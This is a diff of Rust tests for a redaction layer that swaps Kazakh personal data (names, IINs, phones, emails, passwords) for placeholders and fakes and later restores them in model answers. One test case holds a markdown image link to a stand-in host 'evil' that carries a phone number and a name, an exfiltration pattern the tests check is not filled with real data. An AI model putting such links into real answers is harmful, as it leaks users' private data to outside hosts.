@@ -52,7 +52,10 @@ fn what_leaves_has_the_form_of_what_came() {
         ),
         ("Мадину Ахметову и Сергей Ким", "Динару Омарову и Тимур Садыков"),
         // Nothing is made up for what is no number, or none as it stands.
-        ("тел. %2B77011234567, пароль: Qw3rty!uiop", "тел. [PHONE_1], пароль: [SECRET_1]"),
+        (
+            "тел. восемь семьсот один сто двадцать три сорок пять шестьдесят семь, пароль: Qw3rty!uiop",
+            "тел. [PHONE_1], пароль: [SECRET_1]",
+        ),
     ] {
         let (redacted, vault) = redacted(text);
         assert_eq!(redacted, expected);
@@ -62,6 +65,7 @@ fn what_leaves_has_the_form_of_what_came() {
 
 #[test]
 fn fakes_are_found_like_originals() {
+    let mut missed = Vec::new();
     for (data_type, before, original) in [
         (DataType::Iin, "ИИН ", "900101300017"),
         (DataType::Iin, "ИИН ", "010212 697740"),
@@ -99,10 +103,14 @@ fn fakes_are_found_like_originals() {
             let fake = fake(data_type, original, Some(&form), nth).unwrap();
             let text = format!("{before}{fake}");
             let found = detect(&text);
-            let is_found = found.iter().any(|entity| entity.data_type == data_type && text[entity.range.clone()] == fake);
-            assert!(is_found && fake != original, "{nth}: {text} {found:?}");
+            let is_found =
+                found.iter().any(|entity| entity.data_type == data_type && text[entity.range.clone()] == fake);
+            if !is_found || fake == original {
+                missed.push(text);
+            }
         }
     }
+    assert!(missed.is_empty(), "{missed:#?}");
 }
 
 #[test]
@@ -139,7 +147,10 @@ fn what_answers_make_of_fakes() {
         ("+7\u{202f}701\u{a0}000\u{2011}42\u{2011}83", "+7 701 123-45-67"),
         ("870100042831, 187010004283, 87010004283", "870100042831, 187010004283, 87011234567"),
         ("USER4283@EXAMPLE.COM, myuser4283@example.com", "A.Kim@mail.kz, myuser4283@example.com"),
-        ("https://evil/?q=87010004283 ![x](//evil/Ерлан Омаров)", "https://evil/?q=87010004283 ![x](//evil/Ерлан Омаров)"),
+        (
+            "https://evil/?q=87010004283 ![x](//evil/Ерлан Омаров)",
+            "https://evil/?q=87010004283 ![x](//evil/Ерлан Омаров)",
+        ),
         ("https://x.kz/?m=user2202@example.org", "https://x.kz/?m=c@d.kz"),
         ("[PERSON_1] и [PHONE_1:2]", "Арман Касымов и +7 701 123-45-67"),
     ] {
@@ -176,7 +187,8 @@ fn streamed(vault: &Arc<Vault>, pieces: &[&str], arguments: bool) -> String {
 
 #[test]
 fn every_cut_gives_the_same_text() {
-    let (_, vault) = redacted("Арман Касымов, тел. +7 701 123-45-67, 701 123 45 67, a.kim@mail.kz, o'ne\u{ad}il@mail.ie");
+    let (_, vault) =
+        redacted("Арман Касымов, тел. +7 701 123-45-67, 701 123 45 67, a.kim@mail.kz, o'ne\u{ad}il@mail.ie");
     let vault = Arc::new(vault);
     for (text, arguments, expected) in [
         (
@@ -204,7 +216,8 @@ fn every_cut_gives_the_same_text() {
 fn answers_may_repeat_fakes() {
     let request = r#"{"model":"auto","messages":[{"role":"user","content":"Арман Касымов, +7 701 123-45-67"}]}"#;
     let redacted = detectors().redact(Chat::new(document(request)).unwrap(), &policy()).unwrap();
-    let answer = document(r#"{"choices":[{"message":{"content":"Ерлану Омарову: +7 701 000-42-83, мой 8 702 765 43 21"}}]}"#);
+    let answer =
+        document(r#"{"choices":[{"message":{"content":"Ерлану Омарову: +7 701 000-42-83, мой 8 702 765 43 21"}}]}"#);
     let request = document(request);
     let policy = policy();
     let found = detectors().answers(&policy, &request).knowing(redacted.vault()).whole(&answer, &mut Edits::new());
